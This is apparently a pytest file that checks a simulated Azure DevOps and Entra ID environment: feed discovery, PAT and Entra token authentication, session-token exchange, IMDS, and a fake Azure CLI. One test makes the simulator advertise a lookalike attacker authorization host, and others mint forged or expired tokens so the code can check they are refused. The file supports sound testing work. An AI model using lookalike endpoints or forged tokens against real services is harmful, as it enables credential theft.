@@ -1,0 +1,737 @@
+"""The simulator itself: does it behave like Azure DevOps and Entra ID as the scenarios assume?
+
+Plain requests, subprocesses and azure-identity only; the product is never imported here.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import os
+import re
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+from typing import Any
+
+import jwt
+import pytest
+import requests
+
+from .helpers import Wheelhouse, run
+from .sim import world
+from .sim.azcli import az, az_login
+from .sim.exchange import parse_iso
+from .sim.netns import inside_namespace
+from .sim.server import Simulator
+from .sim.wheels import build_wheel
+
+EXCHANGE = "https://vssps.dev.azure.com/contoso/_apis/Token/SessionTokens?api-version=5.0-preview.1"
+SUPPRESS = {"X-TFS-FedAuthRedirect": "Suppress"}
+REPO = Path(__file__).resolve().parents[2]
+
+
+@pytest.fixture
+def http(sim: Simulator) -> Iterator[requests.Session]:
+    session = requests.Session()
+    session.verify = str(sim.ca_pem)
+    session.trust_env = False
+    yield session
+    session.close()
+
+
+def claims(token: str) -> dict[str, Any]:
+    return jwt.decode(token, options={"verify_signature": False})
+
+
+def exchange(http: requests.Session, bearer: str, body: dict[str, Any],
+             url: str = EXCHANGE) -> requests.Response:
+    return http.post(url, json=body, headers={"Authorization": f"Bearer {bearer}", **SUPPRESS})
+
+
+def az_token(client_env: dict[str, str], *extra: str) -> dict[str, Any]:
+    result = az(client_env, "account", "get-access-token", "--resource", world.DEVOPS_RESOURCE,
+                "--output", "json", *extra)
+    assert result.returncode == 0, result.stderr
+    return dict(json.loads(result.stdout))
+
+
+# --- the namespace ------------------------------------------------------------------------------
+
+
+def test_runs_inside_the_namespace() -> None:
+    assert inside_namespace()
+    hosts = Path("/etc/hosts").read_text()
+    for name in world.HOSTNAMES:
+        assert f"127.0.0.1\t{name}\n" in hosts
+
+
+# --- discovery --------------------------------------------------------------------------------
+
+
+def test_anonymous_feed_request_gets_discovery_headers(sim: Simulator,
+                                                       http: requests.Session) -> None:
+    response = http.get(world.SHARED_INDEX)
+    assert response.status_code == 401
+    challenges = response.raw.headers.getlist("WWW-Authenticate")
+    assert challenges == [
+        f"Bearer authorization_uri=https://login.microsoftonline.com/{world.T_CONTOSO}",
+        'Basic realm="https://pkgsprodsu3.pkgs.visualstudio.com/"',
+        "TFS-Federated",
+    ]
+    assert response.headers["X-VSS-ResourceTenant"] == world.T_CONTOSO
+    assert response.headers["X-VSS-AuthorizationEndpoint"] == "https://vssps.dev.azure.com/contoso/"
+    assert response.headers["X-TFS-FedAuthIssuer"] == "https://pkgsprodsu3.pkgs.visualstudio.com/"
+    assert response.headers["X-TFS-FedAuthRealm"]
+    assert re.fullmatch(r"[0-9a-f-]{36}", response.headers["X-VSS-E2EID"])
+
+    legacy = http.get(world.LEGACY_SHARED_INDEX)
+    assert legacy.status_code == 401
+    assert legacy.headers["X-VSS-AuthorizationEndpoint"] == "https://contoso.vssps.visualstudio.com/"
+    fabrikam = http.get(world.RELEASES_INDEX)
+    assert fabrikam.headers["X-VSS-ResourceTenant"] == world.T_FABRIKAM
+    assert http.get(world.TEAM_INDEX).status_code == 401
+    assert sim.count("discovery") == 4
+
+
+def test_discovery_overrides(sim: Simulator, http: requests.Session) -> None:
+    sim.override_discovery(
+        "contoso",
+        {"X-VSS-AuthorizationEndpoint": "https://vssps.dev.azure.com.evil.example/contoso/",
+         "X-VSS-ResourceTenant": None},
+        combine_challenges=True,
+        bare_bearer=True,
+    )
+    response = http.get(world.SHARED_INDEX)
+    assert response.raw.headers.getlist("WWW-Authenticate") == [
+        'Bearer, Basic realm="https://pkgsprodsu3.pkgs.visualstudio.com/", TFS-Federated'
+    ]
+    assert "X-VSS-ResourceTenant" not in response.headers
+    assert response.headers["X-VSS-AuthorizationEndpoint"].startswith(
+        "https://vssps.dev.azure.com.evil.example/"
+    )
+    # Other orgs are untouched.
+    assert http.get(world.RELEASES_INDEX).headers["X-VSS-ResourceTenant"] == world.T_FABRIKAM
+
+
+def test_onprem_server_discovery_has_no_entra(sim: Simulator, http: requests.Session) -> None:
+    response = http.get(world.ONPREM_INDEX)
+    assert response.status_code == 401
+    assert "X-VSS-E2EID" in response.headers
+    assert "X-TFS-FedAuthRealm" not in response.headers
+    assert "X-VSS-ResourceTenant" not in response.headers
+    pat = sim.add_pat(world.ORG_ONPREM, "vso.packaging")
+    assert http.get(world.ONPREM_INDEX, auth=("", pat)).status_code == 200
+
+
+# --- index, download, upload --------------------------------------------------------------------
+
+
+def test_index_and_download_with_a_pat(sim: Simulator, http: requests.Session,
+                                       wheelhouse: Wheelhouse) -> None:
+    pat = sim.add_pat("contoso", "vso.packaging")
+    root = http.get(world.SHARED_INDEX, auth=("anything", pat))
+    assert root.status_code == 200
+    for name in ("tinyfeedpkg", "tinydep", "tinyapp"):
+        assert f'href="{name}/"' in root.text
+    assert http.get(world.SHARED_INDEX.rstrip("/"), auth=("x", pat)).status_code == 200
+
+    page = http.get(world.SHARED_INDEX + "TinyFeedPkg/", auth=("x", pat))
+    assert page.status_code == 200
+    links = re.findall(r'href="([^"]+)"', page.text)
+    assert len(links) == 2
+    url, _, fragment = links[0].partition("#sha256=")
+    assert url == (
+        f"https://pkgs.dev.azure.com/contoso/_packaging/{world.FEED_SHARED_GUID}/pypi/download/"
+        "tinyfeedpkg/1.0.0/tinyfeedpkg-1.0.0-py3-none-any.whl"
+    )
+    assert http.get(url).status_code == 401  # downloads need a credential too
+    download = http.get(url, headers={"Authorization": f"Bearer {pat}"})
+    assert download.status_code == 200
+    assert hashlib.sha256(download.content).hexdigest() == fragment
+    assert download.content == wheelhouse.path("tinyfeedpkg", "1.0.0").read_bytes()
+
+    legacy = http.get(world.LEGACY_SHARED_INDEX + "tinydep/", auth=("x", pat))
+    legacy_base = f"https://contoso.pkgs.visualstudio.com/_packaging/{world.FEED_SHARED_GUID}/"
+    assert legacy_base in legacy.text
+    assert http.get(world.SHARED_INDEX + "nosuchpkg/", auth=("x", pat)).status_code == 404
+    # A PAT is good for its own organisation only.
+    assert http.get(world.RELEASES_INDEX, auth=("x", pat)).status_code == 401
+    assert sim.count("index") == 6
+    assert sim.count("download") == 1
+
+
+def test_project_feed_and_views(sim: Simulator, http: requests.Session, tmp_path: Path) -> None:
+    pat = sim.add_pat("contoso", "vso.packaging")
+    assert http.get(world.TEAM_INDEX, auth=("x", pat)).status_code == 200
+    # The project feed is not reachable without its project.
+    no_project = "https://pkgs.dev.azure.com/contoso/_packaging/team/pypi/simple/"
+    assert http.get(no_project, auth=("x", pat)).status_code == 404
+    local_only = build_wheel(tmp_path, "onlylocal", "1.0")
+    sim.publish("shared", local_only)
+    assert "onlylocal" in http.get(world.SHARED_INDEX, auth=("x", pat)).text
+    release = http.get(world.SHARED_RELEASE_INDEX, auth=("x", pat))
+    assert release.status_code == 200
+    assert "tinyfeedpkg" in release.text
+    assert "onlylocal" not in release.text
+    bogus_view = world.SHARED_INDEX.replace("shared", "shared@Nope")
+    assert http.get(bogus_view, auth=("x", pat)).status_code == 404
+
+
+def _upload(http: requests.Session, wheel: Path, auth: tuple[str, str],
+            url: str = world.SHARED_UPLOAD) -> requests.Response:
+    data = wheel.read_bytes()
+    name, version = wheel.name.split("-")[:2]
+    return http.post(
+        url,
+        auth=auth,
+        data={":action": "file_upload", "protocol_version": "1", "name": name,
+              "version": version, "filetype": "bdist_wheel", "pyversion": "py3",
+              "metadata_version": "2.1", "sha256_digest": hashlib.sha256(data).hexdigest()},
+        files={"content": (wheel.name, data, "application/octet-stream")},
+    )
+
+
+def test_upload_then_list(sim: Simulator, http: requests.Session, tmp_path: Path) -> None:
+    wheel = build_wheel(tmp_path, "freshpkg", "0.1.0")
+    reader = sim.add_pat("contoso", "vso.packaging")
+    writer = sim.add_pat("contoso", "vso.packaging_write")
+    assert _upload(http, wheel, ("x", reader)).status_code == 403
+    no_credential = http.post(world.SHARED_UPLOAD, files={"content": ("a.whl", b"x")})
+    assert no_credential.status_code == 401
+    assert _upload(http, wheel, ("x", writer)).status_code == 200
+    assert sim.uploaded("shared") == [wheel.name]
+    page = http.get(world.SHARED_INDEX + "freshpkg/", auth=("x", reader))
+    assert wheel.name in page.text
+    assert _upload(http, wheel, ("x", writer)).status_code == 409
+    assert sim.count("upload") == 3
+    sim.reset()
+    assert sim.uploaded("shared") == []
+
+
+def test_real_clients_install_and_publish(sim: Simulator, client_env: dict[str, str],
+                                          tmp_path: Path) -> None:
+    """pip, uv and twine against the simulated feed with a PAT given the plain way."""
+    pat = sim.add_pat("contoso", "vso.packaging_write")
+    index = world.SHARED_INDEX.replace("https://", f"https://user:{pat}@")
+    pip = run([sys.executable, "-m", "pip", "install", "--target", tmp_path / "pip",
+               "--index-url", index, "tinyapp"], client_env)
+    assert pip.returncode == 0, pip.stderr
+    assert (tmp_path / "pip" / "tinydep.py").exists()
+    uv = run(["uv", "pip", "install", "--target", tmp_path / "uv", "--python", sys.executable,
+              "--index-url", index, "tinyfeedpkg==1.0.0"], client_env)
+    assert uv.returncode == 0, uv.stderr
+    assert '__version__ = "1.0.0"' in (tmp_path / "uv" / "tinyfeedpkg.py").read_text()
+
+    twine_wheel = build_wheel(tmp_path / "dist", "twinepkg", "1.0.0")
+    twine = run(["twine", "upload", "--non-interactive", "--repository-url", world.SHARED_UPLOAD,
+                 "-u", "VssSessionToken", "-p", pat, twine_wheel], client_env)
+    assert twine.returncode == 0, twine.stdout + twine.stderr
+    uv_wheel = build_wheel(tmp_path / "dist2", "uvpkg", "1.0.0")
+    published = run(["uv", "publish", "--publish-url", world.SHARED_UPLOAD, "--username",
+                     "VssSessionToken", "--password", pat, uv_wheel], client_env)
+    assert published.returncode == 0, published.stderr
+    assert sorted(sim.uploaded("shared")) == sorted([twine_wheel.name, uv_wheel.name])
+
+
+# --- Entra ------------------------------------------------------------------------------------
+
+
+def test_password_grant_and_errors(sim: Simulator, http: requests.Session) -> None:
+    url = "https://login.microsoftonline.com/organizations/oauth2/v2.0/token"
+    form = {"grant_type": "password", "client_id": world.AZURE_CLI_CLIENT_ID,
+            "username": world.BOB, "password": world.BOB_PASSWORD,
+            "scope": f"{world.DEVOPS_SCOPE} offline_access openid profile"}
+    ok = http.post(url, data=form)
+    assert ok.status_code == 200
+    token = claims(ok.json()["access_token"])
+    assert token["aud"] == world.DEVOPS_RESOURCE
+    assert token["iss"] == f"https://sts.windows.net/{world.T_CONTOSO}/"
+    assert (token["tid"], token["upn"], token["idtyp"], token["scp"]) == (
+        world.T_CONTOSO, world.BOB, "user", "user_impersonation")
+    assert 3500 < token["exp"] - time.time() <= 3600
+    assert ok.json()["refresh_token"]
+
+    bad = http.post(url, data={**form, "password": "wrong"})
+    assert bad.status_code == 400
+    assert bad.json()["error"] == "invalid_grant"
+    assert bad.json()["error_description"].startswith("AADSTS50126:")
+    assert bad.json()["error_codes"] == [50126]
+    unknown = http.post("https://login.microsoftonline.com/nowhere.example/oauth2/v2.0/token",
+                        data=form)
+    assert unknown.json()["error_codes"] == [90002]
+    wrong_tenant = http.post(
+        f"https://login.windows.net/{world.T_FABRIKAM}/oauth2/v2.0/token", data=form
+    )
+    assert wrong_tenant.json()["error_codes"] == [50034]
+    assert sim.count("token") == 4
+
+
+def test_openid_configuration(sim: Simulator, http: requests.Session) -> None:
+    config = http.get("https://login.microsoftonline.com/contoso.onmicrosoft.com/v2.0/"
+                      ".well-known/openid-configuration").json()
+    assert config["token_endpoint"] == (
+        f"https://login.microsoftonline.com/{world.T_CONTOSO}/oauth2/v2.0/token"
+    )
+    assert config["issuer"] == f"https://login.microsoftonline.com/{world.T_CONTOSO}/v2.0"
+    common = http.get("https://login.microsoft.com/common/v2.0/.well-known/openid-configuration")
+    assert common.json()["issuer"] == "https://login.microsoftonline.com/{tenantid}/v2.0"
+    instance = http.get("https://login.microsoftonline.com/common/discovery/instance",
+                        params={"api-version": "1.1", "authorization_endpoint":
+                                "https://login.microsoftonline.com/common/oauth2/authorize"})
+    assert "login.windows.net" in instance.json()["metadata"][0]["aliases"]
+    keys = http.get(config["jwks_uri"]).json()["keys"]
+    assert keys[0]["kty"] == "RSA"
+
+
+def test_client_credentials_errors(sim: Simulator, http: requests.Session) -> None:
+    url = f"https://login.microsoftonline.com/{world.T_CONTOSO}/oauth2/v2.0/token"
+    form = {"grant_type": "client_credentials", "client_id": world.SP_CONTOSO_SECRET,
+            "client_secret": world.SP_CONTOSO_SECRET_VALUE, "scope": world.DEVOPS_SCOPE}
+    ok = http.post(url, data=form)
+    assert ok.status_code == 200
+    token = claims(ok.json()["access_token"])
+    assert (token["idtyp"], token["appid"], token["tid"]) == (
+        "app", world.SP_CONTOSO_SECRET, world.T_CONTOSO)
+    assert token["roles"]
+    assert http.post(url, data={**form, "client_secret": "nope"}).status_code == 401
+    no_default = http.post(url, data={**form, "scope": f"{world.DEVOPS_RESOURCE}/x"})
+    assert no_default.json()["error"] == "invalid_scope"
+    elsewhere = http.post(url.replace(world.T_CONTOSO, world.T_FABRIKAM), data=form)
+    assert elsewhere.json()["error_codes"] == [700016]
+    # The federated app refuses an assertion about another subject.
+    fed = {"grant_type": "client_credentials", "client_id": world.SP_CONTOSO_FEDERATED,
+           "scope": world.DEVOPS_SCOPE,
+           "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}
+    other = sim.mint_federated_assertion(subject="sc://contoso/Other/conn")
+    assert http.post(url, data={**fed, "client_assertion": other}).json()["error_codes"] == [700213]
+    forged = sim.mint_federated_assertion(forge=True)
+    assert http.post(url, data={**fed, "client_assertion": forged}).status_code == 401
+    good = sim.mint_federated_assertion()
+    assert http.post(url, data={**fed, "client_assertion": good}).status_code == 200
+
+
+def test_device_code_flow(sim: Simulator, http: requests.Session) -> None:
+    sim.set_device_flow(user=world.BOB, approve_after_polls=2)
+    base = "https://login.microsoftonline.com/organizations/oauth2/v2.0"
+    started = http.post(f"{base}/devicecode", data={
+        "client_id": world.AZURE_CLI_CLIENT_ID, "scope": f"{world.DEVOPS_SCOPE} offline_access"})
+    assert started.status_code == 200
+    assert started.json()["verification_uri"] == "https://microsoft.com/devicelogin"
+    poll = {"grant_type": "urn:ietf:params:oauth:grant-type:device_code",
+            "client_id": world.AZURE_CLI_CLIENT_ID, "device_code": started.json()["device_code"]}
+    for _ in range(2):
+        assert http.post(f"{base}/token", data=poll).json()["error"] == "authorization_pending"
+    done = http.post(f"{base}/token", data=poll)
+    assert done.status_code == 200
+    assert claims(done.json()["access_token"])["upn"] == world.BOB
+
+
+@pytest.fixture
+def identity_env(sim: Simulator, monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
+    """In-process azure-identity: trust the CA, forget any ambient Azure configuration."""
+    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(sim.ca_pem))
+    for name in [n for n in os.environ if n.startswith(("AZURE_", "IDENTITY_", "MSI_"))]:
+        monkeypatch.delenv(name)
+    return monkeypatch
+
+
+def _usable_on_feed(http: requests.Session, token: str, client_id: str) -> None:
+    assert claims(token)["appid"] == client_id
+    assert claims(token)["idtyp"] == "app"
+    # Application tokens are used on the feed as they are, no exchange.
+    assert http.get(world.SHARED_INDEX, auth=("x", token)).status_code == 200
+
+
+def test_client_secret_credential(sim: Simulator, http: requests.Session,
+                                  identity_env: pytest.MonkeyPatch) -> None:
+    from azure.identity import ClientSecretCredential
+
+    credential = ClientSecretCredential(world.T_CONTOSO, world.SP_CONTOSO_SECRET,
+                                        world.SP_CONTOSO_SECRET_VALUE)
+    _usable_on_feed(http, credential.get_token(world.DEVOPS_SCOPE).token, world.SP_CONTOSO_SECRET)
+    assert sim.count("token") == 1
+
+
+def test_certificate_credential(sim: Simulator, http: requests.Session,
+                                identity_env: pytest.MonkeyPatch) -> None:
+    from azure.identity import CertificateCredential
+
+    cert = sim.sp_certificate(world.SP_CONTOSO_CERT)
+    assert re.fullmatch(r"[0-9A-F]{40}", cert.thumbprint)
+    for send_chain in (False, True):
+        credential = CertificateCredential(
+            "contoso.onmicrosoft.com", world.SP_CONTOSO_CERT,
+            certificate_path=str(cert.combined_pem), send_certificate_chain=send_chain,
+        )
+        token = credential.get_token(world.DEVOPS_SCOPE).token
+        _usable_on_feed(http, token, world.SP_CONTOSO_CERT)
+    # Another app's certificate is refused.
+    other = CertificateCredential(world.T_FABRIKAM, world.SP_FABRIKAM_CERT,
+                                  certificate_path=str(cert.combined_pem))
+    from azure.core.exceptions import ClientAuthenticationError
+
+    with pytest.raises(ClientAuthenticationError, match="AADSTS700027"):
+        other.get_token(world.DEVOPS_SCOPE)
+
+
+def test_workload_identity_credential(sim: Simulator, http: requests.Session, tmp_path: Path,
+                                      identity_env: pytest.MonkeyPatch) -> None:
+    from azure.identity import WorkloadIdentityCredential
+
+    token_file = sim.write_federated_assertion(tmp_path / "federated.jwt",
+                                               world.SP_CONTOSO_FEDERATED)
+    identity_env.setenv("AZURE_TENANT_ID", world.T_CONTOSO)
+    identity_env.setenv("AZURE_CLIENT_ID", world.SP_CONTOSO_FEDERATED)
+    identity_env.setenv("AZURE_FEDERATED_TOKEN_FILE", str(token_file))
+    token = WorkloadIdentityCredential().get_token(world.DEVOPS_SCOPE).token
+    _usable_on_feed(http, token, world.SP_CONTOSO_FEDERATED)
+    # The federated app is a contributor: it may publish.
+    wheel = build_wheel(tmp_path, "fedpkg", "1.0")
+    assert _upload(http, wheel, ("x", token)).status_code == 200
+
+
+def test_managed_identity_credential(sim: Simulator, http: requests.Session, tmp_path: Path,
+                                     identity_env: pytest.MonkeyPatch) -> None:
+    from azure.core.exceptions import ClientAuthenticationError
+    from azure.identity import ManagedIdentityCredential
+
+    with pytest.raises(ClientAuthenticationError, match="Identity not found"):
+        ManagedIdentityCredential().get_token(world.DEVOPS_SCOPE)
+    sim.enable_managed_identity()
+    system = ManagedIdentityCredential().get_token(world.DEVOPS_SCOPE).token
+    _usable_on_feed(http, system, world.MI_SYSTEM_CLIENT_ID)
+    user = ManagedIdentityCredential(client_id=world.MI_USER_CLIENT_ID).get_token(
+        world.DEVOPS_SCOPE).token
+    _usable_on_feed(http, user, world.MI_USER_CLIENT_ID)
+    # Managed identities are readers: they may not publish.
+    wheel = build_wheel(tmp_path, "mipkg", "1.0")
+    assert _upload(http, wheel, ("x", user)).status_code == 403
+    assert sim.count("token") == 3
+
+
+def test_azure_cli_credential_reads_the_fake_az(sim: Simulator, client_env: dict[str, str],
+                                                identity_env: pytest.MonkeyPatch) -> None:
+    from azure.identity import AzureCliCredential
+
+    az_login(client_env, world.CAROL)
+    for name, value in client_env.items():
+        identity_env.setenv(name, value)
+    token = AzureCliCredential(tenant_id=world.T_FABRIKAM).get_token(world.DEVOPS_SCOPE)
+    assert claims(token.token)["upn"] == world.CAROL
+    assert token.expires_on > time.time() + 3000
+
+
+def test_imds(sim: Simulator) -> None:
+    url = "http://169.254.169.254/metadata/identity/oauth2/token"
+    params = {"api-version": "2018-02-01", "resource": world.DEVOPS_RESOURCE}
+    plain = requests.Session()
+    plain.trust_env = False
+    assert plain.get(url, params=params).status_code == 400  # no Metadata header
+    off = plain.get(url, params=params, headers={"Metadata": "true"})
+    assert off.status_code == 400
+    assert off.json() == {"error": "invalid_request", "error_description": "Identity not found"}
+    sim.enable_managed_identity(system=False, user_assigned=True)
+    on = plain.get(url, params=params, headers={"Metadata": "true"})
+    assert on.status_code == 200
+    body = on.json()
+    assert body["client_id"] == world.MI_USER_CLIENT_ID
+    assert body["resource"] == world.DEVOPS_RESOURCE
+    assert body["token_type"] == "Bearer"
+    assert int(body["expires_on"]) - int(body["expires_in"]) == pytest.approx(time.time(), abs=5)
+    unknown = plain.get(url, params={**params, "client_id": world.SP_CONTOSO_SECRET},
+                        headers={"Metadata": "true"})
+    assert unknown.status_code == 400
+    assert sim.count("token") == 4
+
+
+# --- the session-token exchange ---------------------------------------------------------------
+
+
+def test_exchange_with_a_fake_az_user_token(sim: Simulator, http: requests.Session,
+                                            client_env: dict[str, str], tmp_path: Path) -> None:
+    az_login(client_env, world.ALICE)
+    bearer = az_token(client_env, "--tenant", world.T_CONTOSO)["accessToken"]
+    reply = exchange(http, bearer, {"displayName": "e2e", "scope": "vso.packaging"})
+    assert reply.status_code == 200, reply.text
+    answer = reply.json()
+    assert {"token", "validFrom", "validTo", "scope", "displayName", "targetAccounts",
+            "authorizationId"} <= set(answer)
+    assert answer["validTo"].endswith("Z")
+    valid_to = datetime.fromtimestamp(parse_iso(answer["validTo"]), timezone.utc)
+    assert abs((valid_to - datetime.now(timezone.utc)) - timedelta(hours=4)) < timedelta(minutes=1)
+    read_only = answer["token"]
+    assert http.get(world.SHARED_INDEX, auth=("VssSessionToken", read_only)).status_code == 200
+    wheel = build_wheel(tmp_path, "sessionpkg", "1.0")
+    assert _upload(http, wheel, ("VssSessionToken", read_only)).status_code == 403
+    write = exchange(http, bearer, {"displayName": "e2e", "scope": "vso.packaging_write"})
+    assert _upload(http, wheel, ("VssSessionToken", write.json()["token"])).status_code == 200
+    # Bound to its organisation.
+    assert http.get(world.RELEASES_INDEX, auth=("x", read_only)).status_code == 401
+    record = sim.requests(kind="exchange")[0]
+    assert (record.scope, record.credential_kind, record.principal) == (
+        "vso.packaging", "entra-user", world.ALICE)
+    assert record.credential_fingerprint == Simulator.fingerprint(bearer)
+
+
+def test_exchange_validto_policy(sim: Simulator, http: requests.Session) -> None:
+    bearer = sim.mint_user_token(world.ALICE)
+    soon = (datetime.now(timezone.utc) + timedelta(hours=8)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    too_far = (datetime.now(timezone.utc) + timedelta(days=7)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+    ok = exchange(http, bearer, {"displayName": "t", "scope": "vso.packaging", "validTo": soon})
+    assert ok.status_code == 200
+    assert ok.json()["validTo"].startswith(soon[:16])
+    refused = exchange(http, bearer, {"displayName": "t", "scope": "vso.packaging",
+                                      "validTo": too_far})
+    assert refused.status_code == 400
+    assert "maximum" in refused.json()["message"]
+    assert sim.requests(kind="exchange")[1].valid_to == too_far
+    sim.set_policy("contoso", max_session_hours=1)
+    assert exchange(http, bearer, {"displayName": "t", "scope": "vso.packaging",
+                                   "validTo": soon}).status_code == 400
+    sim.set_policy("contoso", refuse_validto=True, session_cap_seconds=600)
+    assert exchange(http, bearer, {"displayName": "t", "scope": "vso.packaging",
+                                   "validTo": soon}).status_code == 400
+    capped = exchange(http, bearer, {"displayName": "t", "scope": "vso.packaging"})
+    assert capped.status_code == 200
+    left = datetime.fromtimestamp(parse_iso(capped.json()["validTo"]), timezone.utc) - datetime.now(
+        timezone.utc)
+    assert left <= timedelta(seconds=600)
+    unknown = exchange(http, bearer, {"displayName": "t", "scope": "vso.everything"})
+    assert unknown.status_code == 400
+
+
+def test_exchange_refusals(sim: Simulator, http: requests.Session) -> None:
+    def refused(bearer: str) -> str:
+        reply = exchange(http, bearer, {"displayName": "t", "scope": "vso.packaging"})
+        assert reply.status_code == 401, reply.text
+        return str(reply.json()["message"])
+
+    assert refused(sim.mint_user_token(world.ALICE, forge=True)).startswith("TF400813")
+    expired = sim.mint_user_token(world.ALICE, issued_at=int(time.time()) - 7200, lifetime=3600)
+    assert refused(expired).startswith("TF400813")
+    assert refused(sim.mint_user_token(world.CAROL)).startswith("TF400813")  # other tenant
+    assert refused(sim.mint_user_token(world.ALICE, resource=world.ARM_RESOURCE))
+    assert refused(sim.mint_app_token(world.SP_CONTOSO_SECRET))
+    sim.set_never_signed_in(world.BOB, "contoso")
+    assert "TF401444" in refused(sim.mint_user_token(world.BOB))
+    # Without X-TFS-FedAuthRedirect: Suppress a refusal is a redirect to the sign-in page.
+    bare = http.post(EXCHANGE, json={"scope": "vso.packaging"}, allow_redirects=False,
+                     headers={"Authorization": f"Bearer {sim.mint_user_token(world.CAROL)}"})
+    assert bare.status_code == 302
+    # Legacy and global token hosts answer as well.
+    legacy = exchange(http, sim.mint_user_token(world.ALICE), {"scope": "vso.packaging"},
+                      "https://contoso.vssps.visualstudio.com/_apis/Token/SessionTokens"
+                      "?api-version=5.0-preview.1")
+    assert legacy.status_code == 200
+    assert sim.count("exchange") == 8
+
+
+def test_global_exchange_and_keep_alive(sim: Simulator, http: requests.Session) -> None:
+    reply = exchange(http, sim.mint_user_token(world.CAROL), {"scope": "vso.packaging"},
+                     "https://app.vssps.visualstudio.com/_apis/Token/SessionTokens"
+                     "?api-version=5.0-preview.1")
+    assert reply.status_code == 200
+    token = reply.json()["token"]
+    # A token from app.vssps is good for the organisations of the user's tenant.
+    assert http.get(world.RELEASES_INDEX, auth=("x", token)).status_code == 200
+    assert http.get(world.SHARED_INDEX, auth=("x", token)).status_code == 401
+    assert http.get(world.RELEASES_INDEX + "tinyapp/", auth=("x", token)).status_code == 200
+    # Keep-alive: one connection carried all three requests to the feed host.
+    adapter = http.get_adapter(world.RELEASES_INDEX)
+    assert isinstance(adapter, requests.adapters.HTTPAdapter)
+    pools = adapter.poolmanager.pools
+    feed_pools = [pools[k] for k in list(pools.keys()) if k.key_host == world.FEED_HOST]
+    assert [p.num_connections for p in feed_pools] == [1]
+
+
+def test_user_tokens_on_feeds(sim: Simulator, http: requests.Session) -> None:
+    alice = sim.mint_user_token(world.ALICE)
+    assert http.get(world.SHARED_INDEX, auth=("x", alice)).status_code == 200
+    assert http.get(world.SHARED_INDEX, headers={"Authorization": f"Bearer {alice}"}).ok
+    assert http.get(world.RELEASES_INDEX, auth=("x", alice)).status_code == 401
+    sim.refuse_user_tokens_on_feeds()
+    assert http.get(world.SHARED_INDEX, auth=("x", alice)).status_code == 401
+
+
+# --- the fake Azure CLI ------------------------------------------------------------------------
+
+
+def test_fake_az_state(sim: Simulator, client_env: dict[str, str], tmp_path: Path) -> None:
+    calls = tmp_path / "az-calls.txt"
+    env = {**client_env, "FAKE_AZ_CALLS": str(calls)}
+    before = az(env, "account", "get-access-token", "--resource", world.DEVOPS_RESOURCE)
+    assert before.returncode == 1
+    assert before.stderr.strip() == "ERROR: Please run 'az login' to setup account."
+    az_login(env, world.ALICE)
+    azure = Path(client_env["HOME"]) / ".azure"
+    raw = (azure / "azureProfile.json").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    entry = json.loads(raw.decode("utf-8-sig"))["subscriptions"][0]
+    assert entry["user"] == {"name": world.ALICE, "type": "user"}
+    assert (entry["tenantId"], entry["isDefault"], entry["environmentName"]) == (
+        world.T_CONTOSO, True, "AzureCloud")
+    cache = json.loads((azure / "msal_token_cache.json").read_text())
+    assert {"AccessToken", "RefreshToken", "Account", "IdToken"} <= set(cache)
+    assert len(cache["RefreshToken"]) == 1
+    assert json.loads(az(env, "account", "show").stdout)["user"]["name"] == world.ALICE
+
+    token = az_token(env)
+    assert claims(token["accessToken"])["aud"] == world.DEVOPS_RESOURCE
+    assert token["tenant"] == world.T_CONTOSO
+    assert token["subscription"] == world.T_CONTOSO
+    assert token["tokenType"] == "Bearer"
+    assert isinstance(token["expires_on"], int)
+    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}", token["expiresOn"])
+    assert "subscription" not in az_token(env, "--tenant", world.T_CONTOSO)
+    tsv = az(env, "account", "get-access-token", "--resource", world.DEVOPS_RESOURCE,
+             "--query", "accessToken", "-o", "tsv")
+    assert tsv.stdout.strip() == token["accessToken"]  # the second call came from the cache
+
+    other = az(env, "account", "get-access-token", "--resource", world.DEVOPS_RESOURCE,
+               "--tenant", world.T_FABRIKAM)
+    assert other.returncode == 1
+    assert other.stderr.startswith("ERROR: AADSTS50020")
+
+    assert az(env, "logout").returncode == 0
+    assert az(env, "account", "show").returncode == 1
+    assert az(env, "logout").returncode == 1
+    lines = calls.read_text().splitlines()
+    assert lines[0] == f"account get-access-token --resource {world.DEVOPS_RESOURCE}"
+    assert any(line.startswith("login --username alice@contoso.com") for line in lines)
+
+
+def test_fake_az_knobs(client_env: dict[str, str]) -> None:
+    broken = az({**client_env, "FAKE_AZ_BROKEN": "1"}, "--version")
+    assert broken.returncode == 1
+    assert "Traceback (most recent call last)" in broken.stderr
+    started = time.monotonic()
+    slow = az({**client_env, "FAKE_AZ_DELAY": "0.5"}, "--version")
+    assert slow.returncode == 0
+    assert "azure-cli" in slow.stdout
+    assert time.monotonic() - started >= 0.5
+    with pytest.raises(subprocess.TimeoutExpired):
+        az({**client_env, "FAKE_AZ_HANG": "1"}, "--version", timeout=1)
+
+
+def test_client_env_is_isolated(client_env: dict[str, str], sim: Simulator) -> None:
+    assert "AZURE_CONFIG_DIR" not in client_env
+    assert not [k for k in client_env if k.startswith(("AZURE_", "ARTIFACTS_"))]
+    assert not [k for k in client_env if k.lower().endswith("_proxy")]
+    assert client_env["PATH"].split(os.pathsep)[0].endswith("sim/bin")
+    assert client_env["SSL_CERT_FILE"] == str(sim.ca_pem)
+    which = run(["sh", "-c", "command -v az keyring pip twine uv"], client_env)
+    assert which.returncode == 0, which.stderr
+    assert which.stdout.splitlines()[0].endswith("sim/bin/az")
+
+
+# --- faults -------------------------------------------------------------------------------------
+
+
+def test_fault_sequence(sim: Simulator, http: requests.Session) -> None:
+    sim.fail("pkgs.dev.azure.com", r"/_packaging/shared/",
+             [(429, {"Retry-After": "1"}), 503, "pass", 500])
+    first = http.get(world.SHARED_INDEX)
+    assert (first.status_code, first.headers["Retry-After"]) == (429, "1")
+    assert http.get(world.SHARED_INDEX).status_code == 503
+    assert http.get(world.TEAM_INDEX).status_code == 401  # other paths are not affected
+    assert http.get(world.SHARED_INDEX).status_code == 401  # "pass"
+    assert http.get(world.SHARED_INDEX).status_code == 500
+    assert http.get(world.SHARED_INDEX).status_code == 401  # the sequence is used up
